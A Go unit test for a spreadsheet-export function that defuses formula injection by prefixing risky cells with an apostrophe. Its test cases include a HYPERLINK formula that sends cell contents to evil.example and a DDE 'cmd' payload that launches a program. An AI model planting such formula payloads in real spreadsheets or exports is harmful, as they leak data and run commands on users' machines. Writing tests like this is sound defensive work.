package spreadsheet_test

import (
	"testing"

	"kg/internal/spreadsheet"
)

func TestNeutral(t *testing.T) {
	for cell, want := range map[string]string{
		"": "", "North Shore": "North Shore", "a=b": "a=b", "'quoted": "'quoted", " =1": " =1",
		"=1+1": "'=1+1", "+1+1": "'+1+1", "-1-1": "'-1-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1",
		`=HYPERLINK("http://evil.example?"&A1)`: `'=HYPERLINK("http://evil.example?"&A1)`, "-cmd|' /C calc'!A0": "'-cmd|' /C calc'!A0",
		"＝1": "'＝1", "-": "'-", "--1": "'--1", "-1_000": "'-1_000", "-Inf": "'-Inf", "+0x10": "'+0x10", "-1;2": "'-1;2", "-1\n": "'-1\n",
		"-5": "-5", "+5": "+5", "-5.25": "-5.25", "-1.5e-3": "-1.5e-3", "45000": "45000",
	} {
		if got := spreadsheet.Neutral([]string{cell})[0]; got != want {
			t.Errorf("%q becomes %q, not %q", cell, got, want)
		}
	}
}
